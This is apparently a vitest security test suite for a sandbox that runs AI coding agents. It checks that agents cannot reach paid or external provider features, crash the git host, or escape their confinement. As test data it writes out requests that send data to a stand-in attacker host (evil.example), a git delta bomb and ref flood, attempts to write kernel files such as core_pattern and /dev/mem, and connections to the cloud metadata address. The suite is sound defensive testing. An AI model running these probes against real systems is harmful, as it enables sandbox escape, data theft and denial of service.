import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { deltaBomb, pushBody, watchHostGit } from '../git-front/bombs.ts'
import { carryOut } from './attacks.ts'
import { BACKENDS } from './backends-under-test.ts'
import { RunnerWorld, type RunnerProcess } from './runner-world.ts'

const GIT_MIB = 256
const EVIL = 'https://evil.example'

/** What would let data out through the provider, cost more than it should, or use what others keep there. */
const ASKED = {
  a: {
    'a server of tools': { mcp_servers: [{ type: 'url', url: EVIL, name: 'x' }] },
    'pages of the web': { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
    'a search': { tools: [{ type: 'web_search_20250305', name: 'web_search' }] },
    'a picture by its address': {
      messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: EVIL } }] }],
    },
    'a file of the account': {
      messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'file', file_id: 'f' } }] }],
    },
    'a container': { container: 'c' },
    'a dearer model': { model: 'claude-opus-9' },
    'a faster answer': { speed: 'fast' },
  },
  b: {
    'a server of tools': { tools: [{ type: 'mcp', server_label: 'x', server_url: EVIL }] },
    'a search': { tools: [{ type: 'web_search' }] },
    'a picture by its address': {
      input: [{ type: 'message', role: 'user', content: [{ type: 'input_image', image_url: EVIL }] }],
    },
    'a file of the account': {
      input: [{ type: 'message', role: 'user', content: [{ type: 'input_file', file_id: 'f' }] }],
    },
    'an answer of another agent': { previous_response_id: 'resp_of_another' },
    'a stored answer': { store: true },
    'a dearer model': { model: 'gpt-9-pro' },
    'a faster answer': { service_tier: 'priority' },
  },
} as const

let world: RunnerWorld
let runner: RunnerProcess
let thief: Server
let stolen = 0

beforeAll(async () => {
  thief = createServer((_request, response) => {
    stolen += 1
    response.end('{}')
  })
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve))
  world = await RunnerWorld.start()
  // In the sandbox process an attack could take the token of an agent whose program is kept.
  runner = await world.startRunner({ SKEIN_RUNNER_GIT_MIB: String(GIT_MIB), SKEIN_RUNNER_WARM_MS: '0' })
})

afterAll(async () => {
  await new Promise((resolve) => thief.close(resolve))
  await world.close()
})

const LEVELS = ['bubblewrap', 'process'] as const
const CASES = LEVELS.flatMap((level) => BACKENDS.map((each) => ({ level, ...each })))

describe.each(CASES)('an agent of backend $backend in the sandbox $level', ({ level, backend, model }) => {
  const named = (what: string): string => `${what}-${backend}-${level}`
  beforeAll(() => world.useSandbox(level))

  test('gets nothing of its model’s provider but a conversation with its own model', async () => {
    const before = world.simulator.requests.length
    const { found } = await carryOut(
      world,
      named('asks'),
      `
      const asked = ${JSON.stringify(ASKED[backend])}
      const found = {}
      for (const [what, fields] of Object.entries(asked)) found[what] = (await ask(call, { body: JSON.stringify({ ...prompt, ...fields }) })).status
      for (const path of ['/files', '/containers', '/batches', '/models']) found[path] = (await ask(call.replace(/\\/[a-z]+$/, path))).status
      found.honest = (await ask(call, { headers: { 'anthropic-beta': 'files-api-2025-04-14', 'openai-beta': 'x', cookie: 'x', forwarded: 'x' } })).status
      report(found)
      `,
      { model },
    )
    const { honest, ...others } = found
    expect(honest).toBe(200)
    expect(
      Object.entries(others).filter(([, status]) => status !== 400 && status !== 403 && status !== 404),
    ).toEqual([])
    // The prompts hold the attack itself, so it is the rest that has to be clean.
    const sent = world.simulator.requests.slice(before)
    const shown = sent.map((each) => [each.path, each.headers, each.model])
    expect(JSON.stringify(shown)).not.toMatch(
      /files-api-2025|"openai-beta"|"cookie"|"forwarded"|claude-opus-9|gpt-9-pro|\/(?:files|containers|batches)/,
    )
  })

  test('brings neither the runner nor another agent down with a flood and with hostile pushes', async () => {
    const bomb = pushBody([`refs/heads/skein/${named('bombs')}`], deltaBomb(3072)).toString('base64')
    const watch = watchHostGit(runner.dataDir)
    const attack = carryOut(
      world,
      named('bombs'),
      `
      // The flood takes all the connections that the agent may have, so a push may be cut.
      const push = async (body) => {
        for (;;) {
          const answer = await pushOnce(body)
          if (typeof answer.status === 'number') return answer
          await pause(100)
        }
      }
      const pushOnce = (body) => ask(origin.pathname + '/git-receive-pack', { body, headers: { 'content-type': 'application/x-git-receive-pack-request' } })
      const line = (text) => (text.length + 4).toString(16).padStart(4, '0') + text
      const refs = Array.from({ length: 100_000 }, (_, i) => line('0'.repeat(40) + ' ' + '1'.repeat(40) + ' refs/heads/x' + i)).join('') + '0000'
      const tool = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'list_tasks', arguments: {} } })
      const flood = Array.from({ length: 300 }, () => ask('/tools', { body: tool, headers: { accept: 'application/json, text/event-stream' } }))
      const delta = await push(Buffer.from('${bomb}', 'base64'))
      const many = await push(refs)
      report({ refs: many.status, unpacked: delta.text.includes('unpack ok'), flood: tally((await Promise.all(flood)).map((each) => each.status)) })
      `,
      { model },
    )
    const neighbour = await world.spawn(
      named('neighbour'),
      [{ shell: 'git commit -q --allow-empty -m beside; git push -q origin HEAD' }, { say: 'Worked.' }],
      { model },
    )
    const { run } = await world.settled(neighbour)
    const { found } = await attack
    const peak = watch.stop()
    expect(run.endReason).toBe('rested')
    expect(await world.git('log', '-1', '--format=%s', `skein/${named('neighbour')}`)).toBe('beside')
    expect(found).toMatchObject({ refs: 413, unpacked: false })
    expect(peak.one).toBeGreaterThan(0)
    expect(peak.one).toBeLessThan(GIT_MIB + 64)
    expect(runner.child.exitCode).toBeNull()
  })
})

describe.each(BACKENDS)('an agent of backend $backend behind walls', ({ backend, model }) => {
  test('cannot write the kernel’s files, and reaches neither the host nor its metadata', async () => {
    await world.useSandbox('bubblewrap')
    const { port } = thief.address() as AddressInfo
    const { found } = await carryOut(
      world,
      `walls-${backend}`,
      `
      import { openSync } from 'node:fs'
      const attempt = (path) => { try { openSync(path, 'r+'); return 'opened' } catch (error) { return error.code } }
      const files = ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sysrq-trigger', '/proc/sys/vm/drop_caches',
        '/sys/kernel/uevent_helper', '/sys/fs/cgroup/cgroup.procs', '/sys/kernel/mm/transparent_hugepage/enabled', '/proc/1/mem', '/dev/mem', '/dev/kmsg']
      const reach = (host, port) => new Promise((resolve) => {
        const socket = connect({ host, port, timeout: 2000 }, () => resolve('reached'))
        socket.once('error', (error) => resolve(error.code)).once('timeout', () => resolve('timeout'))
      })
      report({
        opened: files.filter((file) => attempt(file) === 'opened'),
        reached: (await Promise.all([['127.0.0.1', ${port}], ['169.254.169.254', 80], ['::1', ${port}], ['10.0.2.2', ${port}]].map(async ([host, port]) => [host, await reach(host, port)])))
          .filter(([, how]) => how === 'reached').map(([host]) => host),
      })
      process.exit()
      `,
      { model },
    )
    expect(found).toEqual({ opened: [], reached: [] })
    expect(stolen).toBe(0)
  })
})
